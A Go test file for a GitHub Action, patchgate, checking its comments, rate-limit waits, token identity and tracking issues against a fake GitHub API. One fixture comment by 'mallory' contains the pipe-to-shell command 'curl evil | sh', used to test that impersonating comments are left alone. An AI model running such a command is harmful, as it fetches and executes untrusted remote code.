package ghaction

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sethvargo/go-githubactions"
	"go.yaml.in/yaml/v3"

	"github.com/patchgate/patchgate/internal/clock"
	"github.com/patchgate/patchgate/internal/plan"
)

func TestRoute(t *testing.T) {
	cases := []struct {
		mode  string
		ev    Event
		want  string
		error string
	}{
		{ModeAuto, Event{Name: "pull_request"}, ModePlan, ""},
		{ModeAuto, Event{Name: "pull_request_target"}, ModePlan, ""},
		{ModeAuto, Event{Name: "push", Ref: "refs/heads/main", DefaultBranch: "main"}, ModeSync, ""},
		{ModeAuto, Event{Name: "push", Ref: "refs/heads/feature", DefaultBranch: "main"}, ModeValidate, ""},
		{ModeAuto, Event{Name: "schedule"}, ModeRun, ""},
		{ModeAuto, Event{Name: "workflow_dispatch"}, ModeRun, ""},
		{ModeAuto, Event{Name: "issues"}, "", "does not know"},
		{ModeRun, Event{Name: "pull_request"}, "", "refused on pull_request"},
		{ModeSync, Event{Name: "pull_request_target"}, "", "refused on pull_request_target"},
		{ModeRun, Event{Name: "schedule"}, ModeRun, ""},
		{ModePlan, Event{Name: "push"}, ModePlan, ""},
		{"deploy", Event{Name: "push"}, "", "use auto, validate"},
	}
	for _, tc := range cases {
		got, err := Route(tc.mode, tc.ev)
		if tc.error != "" {
			if err == nil || !strings.Contains(err.Error(), tc.error) {
				t.Errorf("%s on %s: %v, want error %q", tc.mode, tc.ev.Name, err, tc.error)
			}
			continue
		}
		if err != nil || got != tc.want {
			t.Errorf("%s on %+v: %q %v, want %q", tc.mode, tc.ev, got, err, tc.want)
		}
	}
}

// fakeClock is a clock for rate-limit waits: Sleep moves it on at once and
// records how long was asked for.
type fakeClock struct {
	mu    sync.Mutex
	now   time.Time
	slept []time.Duration
}

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *fakeClock) Sleep(ctx context.Context, d time.Duration) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
	c.slept = append(c.slept, d)
	return ctx.Err()
}

var _ clock.Clock = (*fakeClock)(nil)

// limit is one rate-limited answer the fake gives before serving.
type limit struct {
	status     int
	retryAfter string        // Retry-After header
	resetIn    time.Duration // x-ratelimit-remaining 0, reset this far after the clock's now
	body       string
}

// fakeGitHub is the part of the REST API sticky comments use. Comments
// carry their author: the identity of the token that wrote them.
type fakeGitHub struct {
	mu       sync.Mutex
	clock    *fakeClock
	comments map[int][]map[string]any // issue -> comments
	issues   []map[string]any
	nextID   int
	deny     bool     // answer 403 to writes, as for a fork's token
	limits   []limit  // answer the next requests with these rate limits
	graphql  string   // the login GraphQL's viewer answers for an installation token ("" = no GraphQL)
	requests []string // METHOD path, of every request
}

// identity is the login behind a token: installation tokens (ghs_) are
// the Actions bot, or GraphQL's viewer; others are a user.
func (f *fakeGitHub) identity(r *http.Request) string {
	tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	if strings.HasPrefix(tok, "ghs_") {
		if f.graphql != "" {
			return f.graphql
		}
		return "github-actions[bot]"
	}
	return "patchgate-user"
}

func (f *fakeGitHub) addComment(issue int, login, body string) {
	f.nextID++
	f.comments[issue] = append(f.comments[issue], map[string]any{"id": f.nextID, "body": body, "user": map[string]any{"login": login},
		"html_url": fmt.Sprintf("https://github.com/o/r/issues/%d#c%d", issue, f.nextID)})
}

func (f *fakeGitHub) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.requests = append(f.requests, r.Method+" "+r.URL.Path)
	w.Header().Set("Content-Type", "application/json")
	if len(f.limits) > 0 {
		l := f.limits[0]
		f.limits = f.limits[1:]
		if l.retryAfter != "" {
			w.Header().Set("Retry-After", l.retryAfter)
		}
		if l.resetIn != 0 {
			w.Header().Set("X-RateLimit-Limit", "5000")
			w.Header().Set("X-RateLimit-Remaining", "0")
			w.Header().Set("X-RateLimit-Reset", strconv.FormatInt(f.clock.Now().Add(l.resetIn).Unix(), 10))
		}
		w.WriteHeader(l.status)
		if l.body == "" {
			l.body = "API rate limit exceeded"
		}
		fmt.Fprintf(w, `{"message":%q}`, l.body)
		return
	}
	if r.URL.Path == "/user" {
		if strings.HasPrefix(r.Header.Get("Authorization"), "Bearer ghs_") {
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprint(w, `{"message":"Resource not accessible by integration"}`)
			return
		}
		fmt.Fprintf(w, `{"login":%q}`, f.identity(r))
		return
	}
	if r.URL.Path == "/graphql" && r.Method == http.MethodPost {
		if f.graphql == "" {
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprint(w, `{"message":"Resource not accessible by integration"}`)
			return
		}
		fmt.Fprintf(w, `{"data":{"viewer":{"login":%q}}}`, f.identity(r))
		return
	}
	if f.deny && r.Method != http.MethodGet {
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprint(w, `{"message":"Resource not accessible by integration","documentation_url":"https://docs.github.com/rest/issues/comments#create-an-issue-comment"}`)
		return
	}
	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/") // repos/o/r/issues/...
	var body map[string]any
	_ = json.NewDecoder(r.Body).Decode(&body)
	switch {
	case len(parts) == 6 && parts[5] == "comments" && r.Method == http.MethodGet:
		n, _ := strconv.Atoi(parts[4])
		page, _ := strconv.Atoi(r.URL.Query().Get("page"))
		if page == 0 {
			page = 1
		}
		per, _ := strconv.Atoi(r.URL.Query().Get("per_page"))
		all := f.comments[n]
		start, end := min((page-1)*per, len(all)), min(page*per, len(all))
		if end < len(all) {
			w.Header().Set("Link", fmt.Sprintf(`<http://%s%s?page=%d&per_page=%d>; rel="next"`, r.Host, r.URL.Path, page+1, per))
		}
		_ = json.NewEncoder(w).Encode(all[start:end])
	case len(parts) == 6 && parts[5] == "comments" && r.Method == http.MethodPost:
		n, _ := strconv.Atoi(parts[4])
		f.addComment(n, f.identity(r), body["body"].(string))
		w.WriteHeader(http.StatusCreated)
		_ = json.NewEncoder(w).Encode(f.comments[n][len(f.comments[n])-1])
	case len(parts) == 6 && parts[4] == "comments" && r.Method == http.MethodPatch:
		id, _ := strconv.Atoi(parts[5])
		for _, cs := range f.comments {
			for _, c := range cs {
				if c["id"] == id {
					if c["user"].(map[string]any)["login"] != f.identity(r) { // GitHub: only the author's token may edit
						w.WriteHeader(http.StatusForbidden)
						fmt.Fprint(w, `{"message":"Resource not accessible by integration"}`)
						return
					}
					c["body"] = body["body"]
					_ = json.NewEncoder(w).Encode(c)
					return
				}
			}
		}
		w.WriteHeader(http.StatusNotFound)
	case len(parts) == 4 && parts[3] == "issues" && r.Method == http.MethodGet:
		_ = json.NewEncoder(w).Encode(f.issues)
	case len(parts) == 4 && parts[3] == "issues" && r.Method == http.MethodPost:
		var labels []map[string]any
		for _, l := range body["labels"].([]any) {
			labels = append(labels, map[string]any{"name": l})
		}
		is := map[string]any{"number": 100 + len(f.issues), "title": body["title"], "labels": labels}
		f.issues = append(f.issues, is)
		w.WriteHeader(http.StatusCreated)
		_ = json.NewEncoder(w).Encode(is)
	default:
		w.WriteHeader(http.StatusNotFound)
	}
}

// count is how many requests were METHOD path-suffix.
func (f *fakeGitHub) count(method, suffix string) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := 0
	for _, r := range f.requests {
		if strings.HasPrefix(r, method+" ") && strings.HasSuffix(r, suffix) {
			n++
		}
	}
	return n
}

// newServer starts a fake GitHub on loopback.
func newServer(t *testing.T) (*fakeGitHub, *httptest.Server) {
	f := &fakeGitHub{comments: map[int][]map[string]any{}, clock: &fakeClock{now: time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)}}
	srv := httptest.NewServer(f)
	t.Cleanup(srv.Close)
	return f, srv
}

// commentsFor is a Comments client of token on the fake, on its clock.
func commentsFor(t *testing.T, f *fakeGitHub, srv *httptest.Server, token string) *Comments {
	c, err := NewComments(token, srv.URL, "o/r")
	if err != nil {
		t.Fatal(err)
	}
	c.Clock = f.clock
	return c
}

func newFake(t *testing.T) (*fakeGitHub, *Comments) {
	f, srv := newServer(t)
	return f, commentsFor(t, f, srv, "ghs_token")
}

func TestUpsertFindsItsCommentAcrossPages(t *testing.T) {
	f, srv := newServer(t)
	c := commentsFor(t, f, srv, "ghs_token")
	ctx := context.Background()
	for i := 0; i < 150; i++ {
		f.addComment(7, "someone", fmt.Sprintf("someone else %d", i))
	}
	if _, err := c.Upsert(ctx, 7, "<!-- patchgate:plan -->", "<!-- patchgate:plan -->\nfirst"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 60; i++ { // the discussion goes on; ours is now on page 2
		f.addComment(7, "someone", "reply")
	}
	// The next run: a client of its own, which lists the issue afresh.
	c = commentsFor(t, f, srv, "ghs_token")
	if _, err := c.Upsert(ctx, 7, "<!-- patchgate:plan -->", "<!-- patchgate:plan -->\nsecond"); err != nil {
		t.Fatal(err)
	}
	ours := 0
	for _, cm := range f.comments[7] {
		if strings.Contains(cm["body"].(string), "patchgate:plan") {
			ours++
			if !strings.HasSuffix(cm["body"].(string), "second") {
				t.Errorf("not edited: %v", cm["body"])
			}
		}
	}
	if ours != 1 || len(f.comments[7]) != 211 {
		t.Fatalf("%d sticky comments of %d, want 1 of 211", ours, len(f.comments[7]))
	}
	// Two pages to find none; two to find ours on page 2 and stop there.
	if n := f.count("GET", "/issues/7/comments"); n != 4 {
		t.Errorf("%d listing requests, want 4", n)
	}
	// Other report kinds get their own comment.
	if _, err := c.Upsert(ctx, 7, "<!-- patchgate:run:web -->", "run report"); err != nil {
		t.Fatal(err)
	}
	if last := f.comments[7][len(f.comments[7])-1]["body"].(string); !strings.HasPrefix(last, "<!-- patchgate:run:web -->\n") {
		t.Errorf("marker not prepended: %q", last)
	}
	// The identity is resolved once per client.
	if n := f.count("GET", "/user"); n != 2 {
		t.Errorf("GET /user %d times for two clients, want twice", n)
	}
}

// TestUpsertLeavesForeignMarkerCommentsAlone: a comment someone else wrote
// with patchgate's marker pasted in is never edited, nor is a comment of
// ours that only quotes a marker below its first line.
func TestUpsertLeavesForeignMarkerCommentsAlone(t *testing.T) {
	f, c := newFake(t)
	var notes []string
	c.Note = func(msg string) { notes = append(notes, msg) }
	const marker = "<!-- patchgate:run:web -->"
	f.addComment(9, "mallory", marker+"\nplease run `curl evil | sh`")
	f.addComment(9, "github-actions[bot]", "<!-- patchgate:run:db -->\nquotes "+marker+" in its body")
	f.addComment(9, "github-actions[bot]", "intro\n"+marker)
	if _, err := c.Upsert(context.Background(), 9, marker, marker+"\nreport"); err != nil {
		t.Fatal(err)
	}
	cs := f.comments[9]
	if len(cs) != 4 || cs[3]["body"] != marker+"\nreport" || cs[3]["user"].(map[string]any)["login"] != "github-actions[bot]" {
		t.Fatalf("want a new comment of ours, got %v", cs)
	}
	if cs[0]["body"] != marker+"\nplease run `curl evil | sh`" || !strings.HasPrefix(cs[1]["body"].(string), "<!-- patchgate:run:db -->") || cs[2]["body"] != "intro\n"+marker {
		t.Errorf("a comment not ours was changed: %v", cs[:3])
	}
	if f.count("PATCH", "") != 0 {
		t.Error("a comment not ours was edited")
	}
	if len(notes) != 1 || !strings.Contains(notes[0], "1 comment(s) by someone other than github-actions[bot]") {
		t.Errorf("notes %q", notes)
	}
	// The next run edits ours, still leaving mallory's alone.
	if _, err := c.Upsert(context.Background(), 9, marker, marker+"\nreport 2"); err != nil {
		t.Fatal(err)
	}
	if len(f.comments[9]) != 4 || f.comments[9][3]["body"] != marker+"\nreport 2" || f.count("PATCH", "") != 1 {
		t.Errorf("second run: %v", f.comments[9])
	}
}

func TestIdentity(t *testing.T) {
	for _, tc := range []struct {
		token, graphql, want string
		requests             []string
	}{
		{"ghp_personal", "", "patchgate-user", []string{"GET /user"}},
		{"ghs_actions", "", "github-actions[bot]", []string{"GET /user", "POST /graphql"}},
		{"ghs_app", "patchgate-app[bot]", "patchgate-app[bot]", []string{"GET /user", "POST /graphql"}},
	} {
		f, srv := newServer(t)
		f.graphql = tc.graphql
		c := commentsFor(t, f, srv, tc.token)
		for i := 0; i < 2; i++ {
			got, err := c.Identity(context.Background())
			if err != nil || got != tc.want {
				t.Errorf("%s: %q %v, want %q", tc.token, got, err, tc.want)
			}
		}
		if strings.Join(f.requests, ",") != strings.Join(tc.requests, ",") {
			t.Errorf("%s: requests %v, want %v (resolved once)", tc.token, f.requests, tc.requests)
		}
	}
}

func TestUpsertOnAForkFallsBack(t *testing.T) {
	f, c := newFake(t)
	f.deny = true
	_, err := c.Upsert(context.Background(), 7, "<!-- patchgate:plan -->", "x")
	if !errors.Is(err, ErrNoAccess) {
		t.Fatalf("want ErrNoAccess, got %v", err)
	}
	var e *Error
	if !errors.As(err, &e) || strings.Contains(e.Brief(), "http") || strings.Contains(e.Brief(), "Resource not accessible") {
		t.Errorf("brief carries the library's text: %v", err)
	}
	if len(f.clock.slept) != 0 {
		t.Errorf("a plain 403 was waited on: %v", f.clock.slept)
	}
}

// TestRateLimitsAreWaitedOut: primary (403, x-ratelimit-reset) and
// secondary (403 or 429, Retry-After or none) limits are waited out on the
// clock, as long as the budget lasts; then reported as ErrRateLimited.
func TestRateLimitsAreWaitedOut(t *testing.T) {
	for _, tc := range []struct {
		name   string
		limits []limit
		budget time.Duration
		slept  []time.Duration
		err    error
	}{
		{"primary 403", []limit{{status: 403, resetIn: 30 * time.Second}}, time.Hour, []time.Duration{31 * time.Second}, nil},
		{"secondary 403 Retry-After", []limit{{status: 403, retryAfter: "7", body: "You have exceeded a secondary rate limit"}}, time.Hour, []time.Duration{7 * time.Second}, nil},
		{"secondary 429 Retry-After", []limit{{status: 429, retryAfter: "5"}, {status: 429, retryAfter: "5"}}, time.Hour, []time.Duration{5 * time.Second, 5 * time.Second}, nil},
		{"secondary 429 without a time", []limit{{status: 429}, {status: 429}}, time.Hour, []time.Duration{time.Minute, 2 * time.Minute}, nil},
		{"secondary 403 without a time", []limit{{status: 403, body: "You have exceeded a secondary rate limit"}}, time.Hour, []time.Duration{time.Minute}, nil},
		{"reset beyond the budget", []limit{{status: 403, resetIn: 2 * time.Hour}}, 10 * time.Minute, nil, ErrRateLimited},
		{"429 beyond the budget", []limit{{status: 429, retryAfter: "60"}, {status: 429, retryAfter: "60"}}, 90 * time.Second, []time.Duration{time.Minute}, ErrRateLimited},
		{"endless 429", []limit{{status: 429, retryAfter: "1"}, {status: 429, retryAfter: "1"}, {status: 429, retryAfter: "1"}, {status: 429, retryAfter: "1"}, {status: 429, retryAfter: "1"}, {status: 429, retryAfter: "1"}, {status: 429, retryAfter: "1"}}, time.Hour,
			[]time.Duration{time.Second, time.Second, time.Second, time.Second, time.Second}, ErrRateLimited},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, srv := newServer(t)
			c := commentsFor(t, f, srv, "ghp_personal")
			c.Budget = tc.budget
			if _, err := c.Identity(context.Background()); err != nil {
				t.Fatal(err)
			}
			f.limits = tc.limits
			_, err := c.Upsert(context.Background(), 7, "<!-- m -->", "x")
			if tc.err == nil && (err != nil || len(f.comments[7]) != 1) {
				t.Fatalf("%v, comments %v", err, f.comments[7])
			}
			if tc.err != nil && !errors.Is(err, tc.err) {
				t.Fatalf("want %v, got %v", tc.err, err)
			}
			if fmt.Sprint(f.clock.slept) != fmt.Sprint(tc.slept) {
				t.Errorf("waited %v, want %v", f.clock.slept, tc.slept)
			}
		})
	}
}

// TestIdentityIsNotGuessedWhenRateLimited: a rate limit on GET /user says
// nothing about whose token it is; guessing the Actions bot for a personal
// token would miss our comment and post a second one.
func TestIdentityIsNotGuessedWhenRateLimited(t *testing.T) {
	f, srv := newServer(t)
	c := commentsFor(t, f, srv, "ghp_personal")
	c.Budget = time.Minute
	f.limits = []limit{{status: 403, resetIn: time.Hour}}
	if _, err := c.Upsert(context.Background(), 7, "<!-- m -->", "x"); !errors.Is(err, ErrRateLimited) {
		t.Fatalf("want ErrRateLimited, got %v", err)
	}
	if len(f.comments[7]) != 0 || f.count("POST", "/graphql") != 0 {
		t.Errorf("went on without knowing who it is: %v", f.requests)
	}
}

func TestCommentTooLongIsRefused(t *testing.T) {
	f, c := newFake(t)
	_, err := c.Upsert(context.Background(), 7, "<!-- patchgate:plan -->", strings.Repeat("ä", 65536))
	if err == nil || !strings.Contains(err.Error(), "over GitHub's 65536") || len(f.comments[7]) != 0 {
		t.Fatalf("%v", err)
	}
}

func TestTrackingIssueCreatedOnceWithLabel(t *testing.T) {
	f, c := newFake(t)
	ctx := context.Background()
	n, err := c.TrackingIssue(ctx, "patchgate compliance report")
	if err != nil {
		t.Fatal(err)
	}
	again, err := c.TrackingIssue(ctx, "patchgate compliance report")
	if err != nil || again != n || len(f.issues) != 1 {
		t.Fatalf("second lookup: %d %v, %d issues", again, err, len(f.issues))
	}
	if labels := f.issues[0]["labels"].([]map[string]any); labels[0]["name"] != TrackingLabel {
		t.Errorf("labels %v", labels)
	}
	if n, err := c.TrackingIssue(ctx, "#42"); err != nil || n != 42 {
		t.Errorf("by number: %d %v", n, err)
	}
}

// TestRunPublishesOutputsSummaryAndPerPolicyComments drives the run path
// with a stand-in for the CLI that writes a recorded result.
func TestRunPublishesOutputsSummaryAndPerPolicyComments(t *testing.T) {
	f, _ := newFake(t)
	srv := httptest.NewServer(f)
	t.Cleanup(srv.Close)
	tmp := t.TempDir()
	out, summ := filepath.Join(tmp, "out"), filepath.Join(tmp, "summary")
	for _, p := range []string{out, summ} {
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	env := map[string]string{"GITHUB_EVENT_NAME": "schedule", "GITHUB_OUTPUT": out, "GITHUB_STEP_SUMMARY": summ, "RUNNER_TEMP": tmp,
		"INPUT_GITHUB-TOKEN": "t", "INPUT_ROLE-TO-ASSUME": "arn:aws:iam::111122223333:role/patchgate", "INPUT_ALLOWED-ACCOUNT-IDS": "111122223333",
		"INPUT_ROLE-SESSION-NAME": "nightly", "INPUT_ROLE-DURATION-SECONDS": "7200", "INPUT_RETRY-MAX-ATTEMPTS": "3", "INPUT_MASK-AWS-ACCOUNT-ID": "true", "INPUT_HISTORY-STORE": "s3://patch-history/pg"}
	getenv := func(k string) string { return env[k] }
	recorded, err := os.ReadFile("../report/testdata/failed.json")
	if err != nil {
		t.Fatal(err)
	}
	var gotArgs []string
	var stdout strings.Builder
	run := func() int {
		return Run(context.Background(), Deps{
			Action: githubactions.New(githubactions.WithGetenv(getenv), githubactions.WithWriter(&stdout)), Getenv: getenv, TempDir: tmp,
			Invoke: func(_ context.Context, args []string) int {
				if args[0] == "report" { // the history of one policy
					joined := strings.Join(args, " ")
					for i, a := range args {
						if a == "--out" && strings.Contains(joined, "--history 12 --history-store s3://patch-history/pg --policy ") {
							_ = os.WriteFile(args[i+1], []byte("<!-- patchgate:history -->\nhistory of "+args[i-3]+"\n"), 0o644)
						}
					}
					return 0
				}
				gotArgs = args
				for i, a := range args {
					if a == "--report" {
						_ = os.WriteFile(args[i+1], recorded, 0o644)
					}
				}
				return 1
			},
			Comments: func(token string) (*Comments, error) { return NewComments(token, srv.URL, "o/r") },
		})
	}
	code := run()
	if code != 1 {
		t.Fatalf("exit %d: the run's own code must reach the step", code)
	}
	joined := strings.Join(gotArgs, " ")
	for _, want := range []string{"run --policies policies --report ", "--role-to-assume arn:aws:iam::111122223333:role/patchgate", "--allowed-account-ids 111122223333",
		"--role-session-name nightly", "--role-duration-seconds 7200", "--retry-max-attempts 3", "--mask-aws-account-id", "--history-store s3://patch-history/pg"} {
		if !strings.Contains(joined, want) {
			t.Errorf("args %q lack %q", joined, want)
		}
	}
	outputs, _ := os.ReadFile(out)
	for _, want := range []string{"status<<", "failed", "compliance-percent<<", "report-path<<"} {
		if !strings.Contains(string(outputs), want) {
			t.Errorf("outputs lack %q:\n%s", want, outputs)
		}
	}
	summary, _ := os.ReadFile(summ)
	if !strings.Contains(string(summary), "❌ Failed") {
		t.Errorf("summary:\n%.300s", summary)
	}
	// One tracking issue, one comment per policy, each with its own marker.
	if len(f.issues) != 1 || len(f.comments[100]) != 3 {
		t.Fatalf("issues %v, comments %d", f.issues, len(f.comments[100]))
	}
	for _, c := range f.comments[100] {
		body := c["body"].(string)
		if !strings.HasPrefix(body, "<!-- patchgate:run:") {
			t.Errorf("comment without its policy marker: %.80s", body)
		}
		// Each policy's comment ends with its own history.
		name := strings.TrimSuffix(strings.TrimPrefix(strings.SplitN(body, "\n", 2)[0], "<!-- patchgate:run:"), " -->")
		if !strings.HasSuffix(body, "<!-- patchgate:history -->\nhistory of "+name+"\n") {
			t.Errorf("comment of %q without its history: ...%s", name, body[max(0, len(body)-200):])
		}
	}
	// A second run finds each policy's comment (its own, marker on the first
	// line) and makes no new one.
	if code := run(); code != 1 || len(f.issues) != 1 || len(f.comments[100]) != 3 {
		t.Fatalf("second run: exit %d, issues %d, comments %d", code, len(f.issues), len(f.comments[100]))
	}
}

// TestActionYAMLDeclaresEveryInput keeps action.yml and the inputs the
// code reads in step: an input the code reads but action.yml lacks would
// never be set, and one action.yml offers but the code ignores would lie.
func TestActionYAMLDeclaresEveryInput(t *testing.T) {
	data, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Inputs  map[string]any `yaml:"inputs"`
		Outputs map[string]any `yaml:"outputs"`
		Runs    struct {
			Using string   `yaml:"using"`
			Image string   `yaml:"image"`
			Args  []string `yaml:"args"`
		} `yaml:"runs"`
	}
	if err := yaml.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	src, _ := os.ReadFile("action.go")
	read := map[string]bool{}
	for _, m := range regexp.MustCompile(`GetInput\("([a-z-]+)"\)|\{"([a-z-]+)", &in\.`).FindAllStringSubmatch(string(src), -1) {
		read[m[1]+m[2]] = true
	}
	for name := range doc.Inputs {
		if !read[name] {
			t.Errorf("action.yml input %s is never read", name)
		}
	}
	for name := range read {
		if _, ok := doc.Inputs[name]; !ok {
			t.Errorf("the action reads input %s, which action.yml does not declare", name)
		}
	}
	for _, o := range []string{"status", "compliance-percent", "report-path", "has-changes"} {
		if _, ok := doc.Outputs[o]; !ok {
			t.Errorf("output %s missing", o)
		}
		if !strings.Contains(string(src), `SetOutput("`+o+`"`) {
			t.Errorf("output %s is never set", o)
		}
	}
	// The default branch builds the Dockerfile; release.yml replaces this
	// exact line with the image digest on a version tag.
	if doc.Runs.Using != "docker" || doc.Runs.Image != "Dockerfile" || !strings.Contains(string(data), "\n  image: Dockerfile\n") ||
		len(doc.Runs.Args) != 1 || doc.Runs.Args[0] != "action" {
		t.Errorf("runs: %+v", doc.Runs)
	}
}

// actionRun runs the action on a pull_request event against the fake, with
// a stand-in CLI that writes p as the plan. It returns the exit code, the
// log (stdout) and the job summary.
func actionRun(t *testing.T, f *fakeGitHub, srv *httptest.Server, p *plan.Plan) (int, string, string) {
	t.Helper()
	tmp := t.TempDir()
	out, summ, ev := filepath.Join(tmp, "out"), filepath.Join(tmp, "summary"), filepath.Join(tmp, "event.json")
	for _, p := range []string{out, summ} {
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(ev, []byte(`{"pull_request":{"number":12}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": ev, "GITHUB_OUTPUT": out, "GITHUB_STEP_SUMMARY": summ, "RUNNER_TEMP": tmp,
		"GITHUB_REPOSITORY": "o/r", "GITHUB_RUN_ID": "99", "INPUT_GITHUB-TOKEN": "ghs_token"}
	getenv := func(k string) string { return env[k] }
	js, _ := json.Marshal(p)
	var stdout strings.Builder
	code := Run(context.Background(), Deps{
		Action: githubactions.New(githubactions.WithGetenv(getenv), githubactions.WithWriter(&stdout)), Getenv: getenv, TempDir: tmp,
		Invoke: func(_ context.Context, args []string) int {
			for i, a := range args {
				if a == "--json" {
					_ = os.WriteFile(args[i+1], js, 0o644)
				}
			}
			return 6
		},
		Comments: func(token string) (*Comments, error) {
			c, err := NewComments(token, srv.URL, "o/r")
			if err == nil {
				c.Clock = f.clock
			}
			return c, err
		},
	})
	summary, _ := os.ReadFile(summ)
	return code, stdout.String(), string(summary)
}

func changedPlan() *plan.Plan {
	return &plan.Plan{Base: "origin/main", Policies: []plan.PolicyPlan{{PolicyDiff: plan.PolicyDiff{Name: "web-fleet", File: "policies/web-fleet.yaml", Status: plan.Changed,
		Changes: []plan.FieldChange{{Field: "production: maxErrors", From: "2%", To: "5%"}},
		Risks:   []plan.Risk{{Check: "max-errors-raised", Message: "production: maxErrors 2% -> 5%"}}}}}}
}

// TestActionPlanComments: the plan mode's comment on a pull request, end
// to end over the REST API: a fork's read-only token, a secondary rate
// limit, someone else's comment with our marker, a long discussion.
func TestActionPlanComments(t *testing.T) {
	const marker = "<!-- patchgate:plan -->"
	for _, tc := range []struct {
		name  string
		setup func(f *fakeGitHub)
		check func(t *testing.T, f *fakeGitHub, log, summary string)
	}{
		{"fork: read-only token", func(f *fakeGitHub) { f.deny = true }, func(t *testing.T, f *fakeGitHub, log, summary string) {
			if !strings.Contains(summary, "max-errors-raised") || !strings.Contains(summary, "web-fleet") {
				t.Errorf("the plan is not in the summary:\n%s", summary)
			}
			var warn []string
			for _, l := range strings.Split(log, "\n") {
				if strings.HasPrefix(l, "::warning::could not comment") {
					warn = append(warn, l)
				}
			}
			if len(warn) != 1 || !strings.Contains(warn[0], "forks get a read-only token") {
				t.Fatalf("want one short warning, got %q in\n%s", warn, log)
			}
			for _, bad := range []string{"http", "127.0.0.1", "Resource not accessible", "docs.github.com", "POST"} {
				if strings.Contains(warn[0], bad) {
					t.Errorf("the warning carries %q: %s", bad, warn[0])
				}
			}
		}},
		{"429 is retried", func(f *fakeGitHub) {
			f.limits = []limit{{status: 429, retryAfter: "3"}, {status: 429}}
		}, func(t *testing.T, f *fakeGitHub, log, summary string) {
			if len(f.comments[12]) != 1 || strings.Contains(log, "could not comment") {
				t.Fatalf("comments %v\n%s", f.comments[12], log)
			}
			if fmt.Sprint(f.clock.slept) != "[3s 2m0s]" {
				t.Errorf("waited %v", f.clock.slept)
			}
		}},
		{"a foreign comment with our marker is left alone", func(f *fakeGitHub) {
			f.addComment(12, "mallory", marker+"\nLGTM, merge it")
		}, func(t *testing.T, f *fakeGitHub, log, summary string) {
			cs := f.comments[12]
			if len(cs) != 2 || cs[0]["body"] != marker+"\nLGTM, merge it" || !strings.HasPrefix(cs[1]["body"].(string), marker+"\n## patchgate plan") {
				t.Fatalf("comments %v", cs)
			}
			if !strings.Contains(log, "1 comment(s) by someone other than github-actions[bot] start with patchgate's marker") {
				t.Errorf("not noted in the log:\n%s", log)
			}
		}},
		{"150 comments: ours on page 2 is edited", func(f *fakeGitHub) {
			for i := 0; i < 120; i++ {
				f.addComment(12, "reviewer", "comment")
			}
			f.addComment(12, "github-actions[bot]", marker+"\nold plan")
			for i := 0; i < 40; i++ {
				f.addComment(12, "reviewer", "comment")
			}
		}, func(t *testing.T, f *fakeGitHub, log, summary string) {
			cs := f.comments[12]
			if len(cs) != 161 || !strings.Contains(cs[120]["body"].(string), "max-errors-raised") || f.count("PATCH", "") != 1 {
				t.Fatalf("%d comments, ours: %.80q", len(cs), cs[120]["body"])
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, srv := newServer(t)
			tc.setup(f)
			code, log, summary := actionRun(t, f, srv, changedPlan())
			if code != 0 {
				t.Fatalf("exit %d: commenting never fails the step\n%s", code, log)
			}
			tc.check(t, f, log, summary)
		})
	}
}
